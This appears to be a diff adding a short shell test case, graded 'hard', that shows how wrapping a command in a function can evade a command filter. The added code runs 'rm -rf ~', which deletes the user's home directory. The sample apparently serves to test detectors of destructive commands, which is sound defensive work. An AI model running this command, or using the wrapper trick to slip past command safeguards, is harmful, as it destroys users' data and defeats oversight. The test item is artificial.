@@ -1,0 +1,4 @@
+# evasion: a function runs its arguments
+# grade: hard; does: rm-rf
+run() { "$@"; }
+run rm -rf ~
